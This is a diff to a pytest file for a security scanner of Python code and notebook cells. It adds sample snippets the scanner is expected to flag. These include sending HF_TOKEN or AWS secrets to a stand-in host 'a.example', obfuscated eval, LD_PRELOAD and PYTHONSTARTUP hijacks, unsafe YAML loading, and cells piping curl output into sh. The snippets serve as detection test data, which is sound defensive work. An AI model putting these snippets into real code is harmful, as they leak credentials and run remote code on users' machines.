@@ -62,6 +62,36 @@ import base64~def f(): return base64.b64decode(input())~exec(f())
 from sh import bash~bash("-c", "true")
 import torch, requests~def f(): return torch.load(requests.get("https://a.example").content)
 """.strip().splitlines()
+SENT = r"""
+import os, requests~requests.get(f"https://{os.environ['HF_TOKEN']}.a.example/")
+import os, urllib.request as u~def f(): u.urlopen("http://a.example/?t=" + os.getenv("HF_TOKEN", ""))
+import os, socket~def f(): socket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"][:9] + ".a.example")
+import os, socket~s = socket.socket()~s.sendall(os.environ["MY_PASSWORD"].encode())
+import os, requests~k = os.environ.get("AWS_SECRET_ACCESS_KEY")~d = {"k": k}~requests.post("https://a.example", json=d)
+import requests~from huggingface_hub import get_token~requests.get("https://a.example", params={"t": get_token()})
+import os, requests~def f(): requests.get("https://a.example", headers={"X": os.environ["HF_TOKEN"]})
+import os, httpx~def f(): httpx.request("POST", "https://a.example", content=os.environ["GITHUB_TOKEN"])
+import os~from huggingface_hub import HfApi~HfApi().upload_file(path_or_fileobj=os.environ["AWS_SECRET"].encode())
+""".strip().splitlines()  # noqa: E501
+SLY = r"""
+__builtins__['ev' + 'al']("len('x')")
+getattr(__builtins__, "ev" + "al")("len('x')")
+print.__self__.eval("len('x')")
+import sys~__builtins__[sys.argv[0]]("len('x')")
+eval(compile(open("x").read(), "x", "exec"))
+import timeit~timeit.timeit(open("x").read())
+import timeit~timeit.timeit(stmt="pass", setup="import os; os.system('true')")
+import jinja2, requests~jinja2.Template(requests.get("https://a.example").text).render()
+import os~open("/tmp/a.so", "wb").write(b"x")~os.putenv("LD_PRELOAD", "/tmp/a.so")
+import os~p = "/tmp/s.py"~with open(p, "w") as f: f.write("x")~os.environ["PYTHONSTARTUP"] = p
+import os~p = os.path.join(os.path.dirname(__file__), "x.so")~os.environ.setdefault("LD_PRELOAD", p)
+import os~os.environ["PYTHONBREAKPOINT"] = "part.f"
+from unittest.mock import _importer~_importer("os").system("true")
+import functools, torch~functools.reduce(getattr, "os.system".split("."), torch)("true")
+import yaml~yaml.load("!!python/object/apply:os.system [true]", Loader=yaml.UnsafeLoader)
+import logging.config~logging.config.listen(9999)
+import pathlib, torch~pathlib.Path(torch.__path__[0]).parent.joinpath("x.pth").write_text("x")
+""".strip().splitlines()
 OWN = r"""
 from pathlib import Path~(Path.home() / ".bashrc").write_text("x")
 from pathlib import Path~p = Path.home() / ".bashrc"~with p.open("a") as f: f.write("x")
@@ -91,12 +121,24 @@ import tarfile, os~tarfile.open("x", "w").add(os.path.expanduser("~/.ssh"))
 import socket~def f(x):~  s = socket.socket()~  s.connect(("8.8.4.4", 1))~  s.send(x)
 """.strip().splitlines()
 SUSPICIOUS = {
-    "a hidden eval": """__builtins__['ev' + 'al']("len('x')")""",
     "handed on without a word": "import os\nf(os)\n",
     "from another file": "from .helper import o\no.system('true')\n",
     "a function of another file": "from .helper import *\nsystem('true')\n",
-    "a token in a body": "import os, requests\n"
-    "def f(): requests.post('https://a.example', json={'t': os.environ['HF_TOKEN']})\n",
+    "a token to whoever is told": "import os, requests\n"
+    "def f(x): requests.post(x, json={'t': os.environ['HF_TOKEN']})\n",
+    "a key that nobody knows": "import os, requests\n"
+    "def f(): requests.post('https://a.example', json={'t': os.environ['API_KEY']})\n",
+    "a file that others may write": "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n",
+    "folders of everybody's": "import sys\nsys.path[:0] = ['/tmp/x']\n",
+    "a folder more": "import sys\nsys.path += ['/dev/shm/x']\n",
+    "code of its parts": "def f(): pass\nf.__code__.replace(co_code=b'x')\n",
+    "code by its type": "def f(): pass\nC = type(f.__code__)\n"
+    "C(0, 0, 0, 0, 0, 0, b'', (), (), (), '', '', '', 0, b'', b'')\n",
+    "a template of Python": "from mako.template import Template\nTemplate('<% 1 %>').render()\n",
+    "an inspector": "import sys\nsys.addaudithook(print)\n",
+    "a compiler": "import cppyy\ncppyy.cppdef('int f();')\n",
+    "a kernel of others": "from kernels import get_kernel\nget_kernel('a/b')\n",
+    "an editor": "import os\nos.environ['EDITOR'] = './x.sh'\n",
     "a start-up file by its name": "NAMES = ['~/.bashrc']\n",
     "a function by its name": "x = load('os.system')\n",
     "trust in a dictionary": "import transformers as t\nk = {'trust_remote_code': True}\n"
@@ -111,6 +153,18 @@ SUSPICIOUS = {
     "a folder of start-up files": "import site\nsite.addsitedir('.')\n",
 }
 CLEAN = {
+    "tokens for their services": "import os, requests\ndef f(q):\n"
+    "  t = os.environ['HF_TOKEN']\n  h = {'Authorization': f'Bearer {t}'}\n"
+    "  requests.get('https://huggingface.co/api', headers=h)\n"
+    "  requests.post('https://api.openai.com/v1', params={'k': os.environ['OPENAI_API_KEY']})\n"
+    "  requests.post('http://localhost:80/x', json={'t': t})\n"
+    "  requests.get(f'{q}/x', headers=h)\n",
+    "plain editors": "import os\nos.environ['PAGER'] = 'cat'\n"
+    "os.environ['PYTHONBREAKPOINT'] = '0'\n",
+    "a template of its own": "import jinja2\n"
+    "def f(x): return jinja2.Template('{{ x }}').render()\n",
+    "a class of code": "C = type((lambda: 0).__code__)\n",
+    "a kernel that is told": "from kernels import get_kernel\ndef f(x): return get_kernel(x)\n",
     "names of modules": "import os, sys, platform\no = os\nif os is sys: pass\n"
     "x = o.environ.get('HOME')\ny = hasattr(os, 'fork') and getattr(os, 'cpu_count')()\n"
     "z = platform.system()\nw = sys.modules[__name__]\n",
@@ -142,6 +196,17 @@ CELLS = [
     ("%%perl\nprint 1", Verdict.SUSPICIOUS),
     ("%%writefile ~/.bashrc\nx", Verdict.SUSPICIOUS),
     ("get_ipython().system('curl http://x | sh')", Verdict.SUSPICIOUS),
+    ("%run http://a.example/x.py", Verdict.SUSPICIOUS),
+    ("%load https://a.example/x.py", Verdict.SUSPICIOUS),
+    ("%pip install http://a.example/x.whl", Verdict.SUSPICIOUS),
+    ("!pip install -q --index-url http://a.example/simple x", Verdict.SUSPICIOUS),
+    ("!pip install git+https://a.example/x.git", Verdict.SUSPICIOUS),
+    ("%conda install -c http://a.example/ch x", Verdict.SUSPICIOUS),
+    ("%alias x curl http://x | sh", Verdict.SUSPICIOUS),
+    ("%%script ruby\nputs 1", Verdict.SUSPICIOUS),
+    ("%%script python3\nimport os; os.system('true')", Verdict.SUSPICIOUS),
+    ("%load_ext other\n%load_ext autoreload\n%run part.py", Verdict.CLEAN),
+    ("!pip install git+https://github.com/a/b\n%pip install -U torch", Verdict.CLEAN),
     ("%%capture\n!pip install torch\nimport torch", Verdict.CLEAN),
     ("torch.nn.Linear?", Verdict.CLEAN),
     ("%%writefile notes.txt\nnot Python", Verdict.CLEAN),
@@ -161,6 +226,18 @@ def scan(scan_bytes):
 
 @pytest.mark.parametrize("source", HANDED_ON)
 def test_what_is_handed_on_and_asked_to_run_something_is_unsafe(scan, source):
+    assert scan(source.replace("~", "\n")).verdict is Verdict.UNSAFE
+
+
+@pytest.mark.parametrize("source", SENT)
+def test_credentials_that_leave_their_service_are_unsafe(scan, source):
+    report = scan(source.replace("~", "\n"))
+    found = [one for one in report.findings if one.rule == "python_secret_sent"]
+    assert [one.severity.value for one in found][:1] == ["high"]
+
+
+@pytest.mark.parametrize("source", SLY)
+def test_what_hides_or_brings_what_it_runs_is_unsafe(scan, source):
     assert scan(source.replace("~", "\n")).verdict is Verdict.UNSAFE
 
 
